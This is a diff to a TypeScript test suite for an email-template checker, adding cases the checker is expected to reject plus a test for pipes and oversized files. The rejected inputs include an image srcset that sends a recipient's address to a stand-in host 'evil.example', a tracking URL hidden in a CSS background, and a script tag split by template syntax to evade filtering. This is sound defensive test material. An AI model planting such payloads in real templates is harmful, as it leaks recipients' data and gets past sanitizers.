@@ -1,3 +1,4 @@
+import { execFileSync } from "node:child_process";
 import { mkdtempSync, readdirSync, readFileSync, rmSync, utimesSync, writeFileSync } from "node:fs";
 import { mkdir } from "node:fs/promises";
 import { tmpdir } from "node:os";
@@ -221,6 +222,35 @@ describe("what is refused, and where", () => {
       /raw/,
     ],
     [
+      "a picture in a list of pictures that tells who opens it",
+      "story.mjml",
+      (it: string) =>
+        it.replace(
+          '<p class="muted">',
+          '<img srcset="https://evil.example/p?u={{ personal.address }} 1x" alt="" /><p class="muted">',
+        ),
+      null,
+      /who opens/,
+    ],
+    [
+      "a picture behind a text that does",
+      "frame.mjml",
+      (it: string) =>
+        it.replace(
+          "</mj-body>",
+          '<mj-raw><div style="background-image:url({{ personal.preferencesUrl }})"></div></mj-raw></mj-body>',
+        ),
+      null,
+      /who opens/,
+    ],
+    [
+      "a script put together of pieces",
+      "story.mjml",
+      (it: string) => it.replace('<p class="muted">', '<scr{{ "" }}ipt>1</scr{{ "" }}ipt><p class="muted">'),
+      null,
+      /<script>/,
+    ],
+    [
       "a picture that tells who opens it",
       "story.mjml",
       (it: string) => it.replace('<p class="muted">', '<img src="{{ personal.webUrl }}" /><p class="muted">'),
@@ -261,4 +291,17 @@ describe("what is refused, and where", () => {
     }
     expect((await start().source())(name)).toBe(ours.read(name));
   });
+});
+
+test("what is no file, or too large, is told by name; nobody waits for a pipe", async () => {
+  execFileSync("mkfifo", [join(folder, "digest.txt")]);
+  write("story.mjml", "x".repeat(200_001));
+  const { faults } = await start().check();
+  expect(faults.map(({ file, message }) => [file, message])).toEqual(
+    expect.arrayContaining([
+      ["digest.txt", "is no file"],
+      ["story.mjml", "has 200001 octets, and a template takes 200000"],
+    ]),
+  );
+  expect((await start().source())("story.mjml")).toBe(ours.read("story.mjml"));
 });
